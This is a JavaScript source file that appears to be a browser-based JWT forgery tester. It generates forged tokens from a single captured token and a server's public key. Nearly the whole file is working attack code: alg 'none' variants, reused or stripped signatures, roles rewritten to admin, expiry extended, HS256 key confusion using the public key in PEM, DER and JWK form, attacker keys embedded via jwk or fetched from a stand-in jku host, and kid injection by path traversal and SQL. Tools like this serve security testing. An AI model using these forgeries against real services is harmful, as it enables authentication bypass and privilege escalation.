"use strict";

/* Which tokens can somebody make who has one token, and the keys that everybody can have?
 *
 * All of it in this page, by WebCrypto. `given` is what the attacker holds: the token taken apart
 * (`parts`, `header`, `payload`), a public key of the server (`jwk`), and `another()`, which gets a
 * second genuine token of the same user.
 */
class Forgery {
  constructor(title, story, make) {
    Object.assign(this, { title, story, make });
  }
}

const FORGERIES = (() => {
  const { bytes, encode } = TokenText;
  const segment = (object) => encode(bytes(JSON.stringify(object)));
  const unsigned = (header, payload) => `${segment(header)}.${segment(payload)}`;
  const headerOf = (given, changes) => ({ ...given.header, ...changes });

  async function withSecret(given, changes, secret) {
    const hmac = { name: "HMAC", hash: "SHA-256" };
    const key = await crypto.subtle.importKey("raw", secret, hmac, false, ["sign"]);
    const text = unsigned(headerOf(given, { alg: "HS256", ...changes }), given.payload);
    return `${text}.${encode(await crypto.subtle.sign("HMAC", key, bytes(text)))}`;
  }

  async function withOwnKey(given, changesFor) {
    const ecdsa = { name: "ECDSA", namedCurve: "P-256", hash: "SHA-256" };
    const pair = await crypto.subtle.generateKey(ecdsa, true, ["sign", "verify"]);
    const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", pair.publicKey);
    const text = unsigned(headerOf(given, { alg: "ES256", ...changesFor({ kty, crv, x, y }) }), given.payload);
    return `${text}.${encode(await crypto.subtle.sign(ecdsa, pair.privateKey, bytes(text)))}`;
  }

  const IMPORTED_AS = {
    EC: { name: "ECDSA", namedCurve: "P-256" },
    RSA: { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256" },
    OKP: { name: "Ed25519" },
  };

  /** The server's public key as the file that a server has it in. */
  async function der({ jwk }) {
    const { kid, use, alg, ...key } = jwk;
    const imported = await crypto.subtle.importKey("jwk", key, IMPORTED_AS[key.kty], true, ["verify"]);
    return new Uint8Array(await crypto.subtle.exportKey("spki", imported));
  }

  async function pem(given) {
    const base64 = btoa(String.fromCharCode(...(await der(given))));
    return `-----BEGIN PUBLIC KEY-----\n${base64.match(/.{1,64}/g).join("\n")}\n-----END PUBLIC KEY-----`;
  }

  const admin = (payload) => ({ ...payload, roles: ["staff", "admin"] });

  const none = ["none", "None", "NONE", "nOnE"].map((alg) =>
    new Forgery(`alg: ${alg}`, "“There is no signature”, says the header, and there is none. Libraries believed it, and later only forbade it in small letters.",
      (given) => `${unsigned(headerOf(given, { alg }), given.payload)}.`));

  return [
    ...none,
    new Forgery("alg: none, the old signature left on", "Gets past whoever only asks whether there is a signature.",
      (given) => `${unsigned(headerOf(given, { alg: "none" }), given.payload)}.${given.parts[2]}`),
    new Forgery("The signature left empty", "Header and payload as they were. Gets past whoever loops over the bytes of the signature that came.",
      (given) => `${given.parts[0]}.${given.parts[1]}.`),
    new Forgery("Roles edited, the old signature", "The payload can be read, so it can be written: “admin” it says now. The signature was made for the old text.",
      (given) => `${given.parts[0]}.${segment(admin(given.payload))}.${given.parts[2]}`),
    new Forgery("exp edited by ten years, the old signature", "A token that is over, or soon will be, gets another end.",
      (given) => `${given.parts[0]}.${segment({ ...given.payload, exp: given.payload.exp + 315576000 })}.${given.parts[2]}`),
    new Forgery("The signature of another token", "Both are genuine, made by the same key for the same user a moment later; only not for each other.",
      async (given) => `${given.parts[0]}.${given.parts[1]}.${(await given.another()).split(".")[2]}`),
    new Forgery("HS256 over the public key: PEM", "The public key is public. A server that lets the token choose HS256 takes it for a shared secret.",
      async (given) => withSecret(given, {}, bytes(await pem(given)))),
    new Forgery("HS256 over the public key: PEM and a newline", "The same, as the file usually ends.",
      async (given) => withSecret(given, {}, bytes(`${await pem(given)}\n`))),
    new Forgery("HS256 over the public key: DER", "The same key as bytes.",
      async (given) => withSecret(given, {}, await der(given))),
    new Forgery("HS256 over the public key: JWK", "The same key as the text that the JWKS has.",
      (given) => withSecret(given, {}, bytes(JSON.stringify(given.jwk)))),
    new Forgery("An own key, brought along in jwk", "The header brings the public key that fits the signature. Whoever trusts it trusts everybody.",
      (given) => withOwnKey(given, (jwk) => ({ kid: "mallory", jwk }))),
    new Forgery("An own key in jwk, under the server's kid", "The same, with a name that the server knows.",
      (given) => withOwnKey(given, (jwk) => ({ jwk }))),
    new Forgery("An own key, to be fetched from jku", "The header says where the key can be fetched: from the attacker. A server that does has sent a request wherever it was told to, too.",
      (given) => withOwnKey(given, () => ({ kid: "mallory", jku: "https://mallory.example/jwks.json" }))),
    // HMAC pads its key with zeros: one zero byte is the same key as none, and WebCrypto takes no empty one.
    new Forgery("kid: ../../../dev/null", "If kid is the name of a file, this one is empty, and an empty secret can be guessed.",
      (given) => withSecret(given, { kid: "../../../../../../dev/null" }, new Uint8Array(1))),
    new Forgery("kid: SQL", "If kid goes into a query, the query answers with a secret that the attacker chose.",
      (given) => withSecret(given, { kid: "' UNION SELECT 'mallory' --" }, bytes("mallory"))),
  ];
})();
